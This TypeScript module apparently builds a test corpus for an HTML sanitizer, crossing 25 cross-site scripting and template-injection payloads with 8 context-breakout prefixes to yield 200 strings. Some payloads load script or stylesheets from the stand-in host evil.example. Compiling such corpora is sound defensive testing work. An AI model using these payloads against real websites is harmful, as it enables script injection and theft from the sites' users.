/** Two hundred texts that are code where somebody takes them for markup: what runs, behind what it may have to break out of. */

/** What runs, or loads, or leads somewhere, where it becomes an element, an attribute or a template. */
const RUNS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)" form=f>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import url(//evil.example/x.css);*{display:none}</style>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload for template engines
  '<b onmouseover=alert(1) style="position:fixed;inset:0">${alert(1)}{{constructor.constructor("alert(1)")()}}</b>',
];
/** Where a text may stand, and what ends that. */
const BEHIND = [
  '',
  '"',
  `'>`,
  '">',
  '</p></style></script>',
  '</textarea></title>',
  '<!-- --!>',
  ']]>\u0000',
];

export const PAYLOADS: readonly string[] = RUNS.flatMap((runs) => BEHIND.map((ends) => ends + runs));
